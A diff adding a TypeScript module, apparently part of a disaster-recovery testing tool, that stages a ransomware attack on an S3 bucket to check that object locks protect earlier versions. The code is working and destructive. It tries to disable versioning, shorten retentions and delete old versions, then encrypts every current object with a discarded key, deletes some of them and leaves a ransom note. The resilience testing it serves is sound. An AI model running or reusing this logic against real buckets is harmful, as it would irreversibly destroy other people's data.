@@ -1,0 +1,199 @@
+import { createCipheriv, randomBytes } from 'node:crypto';
+import { Readable } from 'node:stream';
+import {
+  DeleteObjectCommand,
+  DeleteObjectsCommand,
+  GetObjectCommand,
+  PutBucketVersioningCommand,
+  PutObjectCommand,
+  PutObjectRetentionCommand,
+  S3ServiceException,
+} from '@aws-sdk/client-s3';
+import { Upload } from '@aws-sdk/lib-storage';
+import { z } from 'zod';
+import type { Disaster } from '../../model/asset.ts';
+import { summaryOf } from '../../model/errors.ts';
+import type { Assurance } from '../../model/record.ts';
+import { CONCURRENCY } from './client.ts';
+import { readListing } from './disaster.ts';
+import { type BucketAt, type CurrentObject, versionPages } from './listing.ts';
+import { forEachBounded } from './pool.ts';
+
+export const OBJECTS_ENCRYPTED = 'objects-encrypted';
+
+export const objectsEncrypted = {
+  name: OBJECTS_ENCRYPTED,
+  threat:
+    "a thief with a writer's credentials tries to destroy every version, encrypts every current object with a key of his own, deletes some, and leaves a note",
+  blastRadius: 'all current objects, and whatever versions no lock holds; the bucket survives',
+  assures: ['untouched'],
+} as const satisfies Disaster;
+
+/** A third of the objects disappear behind a delete marker as well. */
+const DELETED_EVERY = 3;
+const RETENTIONS_TRIED = 10;
+const IV_BYTES = 16;
+/** What is larger is encrypted as a stream, in parts. */
+const WHOLE_MAX_BYTES = 1024 * 1024;
+const NOTE_KEY = 'HOW-TO-GET-YOUR-FILES-BACK.txt';
+/** What S3 answers where a lock holds. */
+const REFUSALS = new Set(['AccessDenied', 'InvalidBucketState', 'InvalidRequest']);
+
+const body = z.custom<AsyncIterable<Uint8Array>>(
+  (value) => typeof value === 'object' && value !== null && Symbol.asyncIterator in value,
+);
+
+interface Attempts {
+  readonly what: string;
+  tried: number;
+  refused: number;
+  example: string;
+}
+
+export interface Attack {
+  readonly exercised: string;
+  /** What the thief tried against the versions, and how often he was refused. */
+  readonly assurance: Assurance;
+}
+
+/**
+ * Attacks the bucket as ransomware does: first what keeps versions (versioning, retentions), then the objects themselves, and at
+ * last every version from before, which is all that could undo it. Nothing is bypassed that a writer may not bypass: `s3:BypassGovernanceRetention` is no writer's.
+ * @param listingPath what a plain listing showed just before.
+ * @param beganUtc a fresh second of the bucket's clock: what it stamped before is from before the attack.
+ */
+export async function encryptEverything(
+  at: BucketAt,
+  listingPath: string,
+  beganUtc: string,
+  signal: AbortSignal,
+): Promise<Attack> {
+  const versioning = await trySuspending(at, signal);
+  const retentions = await tryShorteningRetentions(at, signal);
+  const key = randomBytes(32);
+  let [encrypted, deleted] = [0, 0];
+  await forEachBounded(readListing(listingPath), CONCURRENCY, async (object) => {
+    const turn = encrypted;
+    encrypted += 1;
+    await encryptObject(at, object, key, signal);
+    if (turn % DELETED_EVERY !== 0) return;
+    deleted += 1;
+    await at.client.send(new DeleteObjectCommand({ Bucket: at.bucket, Key: object.key }), { abortSignal: signal });
+  });
+  const note = new PutObjectCommand({ Bucket: at.bucket, Key: NOTE_KEY, Body: 'Pay.', ContentLength: 4 });
+  await at.client.send(note, { abortSignal: signal });
+  const deletions = await tryDeletingVersions(at, beganUtc, signal);
+  const attempts = [versioning, retentions, deletions].filter(({ tried }) => tried > 0);
+  const refused = attempts.map((attempt) => `${attempt.what}: ${attempt.refused} of ${attempt.tried} refused`);
+  const observed = attempts
+    .map(({ what, tried, refused, example }) => ({
+      what,
+      held: refused === tried,
+      observed: `${refused} of ${tried} refused${example === '' ? '' : `, e.g. ${example}`}`,
+    }))
+    .toSorted((one, other) => Number(one.held) - Number(other.held));
+  return {
+    exercised: `${encrypted} current objects overwritten with ciphertext (AES-256, a key that nobody keeps), ${deleted} of them deleted on top, a note left; and ${refused.join('; ')}; not tried: what needs s3:BypassGovernanceRetention or s3:PutBucketObjectLockConfiguration, which IAM denies a writer`,
+    assurance: {
+      promise: 'untouched',
+      what: 'the versions from before the attack',
+      checked: attempts.reduce((sum, { tried }) => sum + tried, 0),
+      failed: attempts.reduce((sum, { tried, refused }) => sum + tried - refused, 0),
+      observed,
+    },
+  };
+}
+
+async function trySuspending({ client, bucket }: BucketAt, signal: AbortSignal): Promise<Attempts> {
+  const attempts: Attempts = { what: 'suspending versioning', tried: 0, refused: 0, example: '' };
+  const VersioningConfiguration = { Status: 'Suspended' } as const;
+  await attempt(attempts, () =>
+    client.send(new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration }), { abortSignal: signal }),
+  );
+  return attempts;
+}
+
+async function tryShorteningRetentions(at: BucketAt, signal: AbortSignal): Promise<Attempts> {
+  const attempts: Attempts = { what: 'shortening a retention', tried: 0, refused: 0, example: '' };
+  const inAMinute = new Date(Math.ceil(Date.now() / 1_000) * 1_000 + 60_000);
+  for await (const page of versionPages(at, signal)) {
+    for (const { key, versionId } of page.filter(({ deleteMarker }) => !deleteMarker)) {
+      const Retention = { Mode: 'GOVERNANCE', RetainUntilDate: inAMinute } as const;
+      await attempt(attempts, () =>
+        at.client.send(
+          new PutObjectRetentionCommand({ Bucket: at.bucket, Key: key, VersionId: versionId, Retention }),
+          { abortSignal: signal },
+        ),
+      );
+      if (attempts.tried === RETENTIONS_TRIED) return attempts;
+    }
+  }
+  return attempts;
+}
+
+async function attempt(attempts: Attempts, work: () => Promise<unknown>): Promise<void> {
+  attempts.tried += 1;
+  try {
+    await work();
+    attempts.example ||= 'one was not refused';
+  } catch (error) {
+    if (!(error instanceof S3ServiceException) || !REFUSALS.has(error.name)) throw error;
+    attempts.refused += 1;
+    attempts.example ||= summaryOf(error);
+  }
+}
+
+/** Delete markers are left alone: to remove one brings an object back, which is not what a thief wants. */
+async function tryDeletingVersions(at: BucketAt, beganUtc: string, signal: AbortSignal): Promise<Attempts> {
+  const attempts: Attempts = { what: 'deleting a version', tried: 0, refused: 0, example: '' };
+  for await (const page of versionPages(at, signal)) {
+    const Objects = page
+      .filter(({ deleteMarker, lastModified }) => !deleteMarker && lastModified < beganUtc)
+      .map(({ key, versionId }) => ({ Key: key, VersionId: versionId }));
+    if (Objects.length === 0) continue;
+    const { Errors = [] } = await at.client.send(
+      new DeleteObjectsCommand({ Bucket: at.bucket, Delete: { Objects, Quiet: true } }),
+      { abortSignal: signal },
+    );
+    const unforeseen = Errors.find(({ Code = '' }) => !REFUSALS.has(Code));
+    if (unforeseen !== undefined) throw new Error(`deleting versions of ${at.bucket}: ${unforeseen.Code}`);
+    attempts.tried += Objects.length;
+    attempts.refused += Errors.length;
+    const [first] = Errors;
+    if (first !== undefined) attempts.example ||= `"${first.Key}": ${first.Code}, ${first.Message}`;
+  }
+  return attempts;
+}
+
+/** Reads the object and writes its ciphertext over it; the vector goes first, so that even an empty object changes. */
+async function encryptObject(at: BucketAt, object: CurrentObject, key: Buffer, signal: AbortSignal): Promise<void> {
+  const named = { Bucket: at.bucket, Key: object.key };
+  const { Body } = await at.client.send(new GetObjectCommand(named), { abortSignal: signal });
+  const plain = body.parse(Body);
+  if (object.sizeBytes <= WHOLE_MAX_BYTES) {
+    const whole = Buffer.concat(await Array.fromAsync(ciphertext(plain, key)));
+    const put = new PutObjectCommand({ ...named, Body: whole, ContentLength: whole.byteLength });
+    await at.client.send(put, { abortSignal: signal });
+    return;
+  }
+  signal.throwIfAborted();
+  const upload = new Upload({
+    client: at.client,
+    params: { ...named, Body: Readable.from(ciphertext(plain, key), { objectMode: false }) },
+    queueSize: 2,
+  });
+  const onAbort = () => void upload.abort();
+  signal.addEventListener('abort', onAbort, { once: true });
+  try {
+    await upload.done();
+  } finally {
+    signal.removeEventListener('abort', onAbort);
+  }
+}
+
+async function* ciphertext(plain: AsyncIterable<Uint8Array>, key: Buffer): AsyncGenerator<Buffer> {
+  const vector = randomBytes(IV_BYTES);
+  const cipher = createCipheriv('aes-256-ctr', key, vector);
+  yield vector;
+  for await (const chunk of plain) yield cipher.update(chunk);
+}
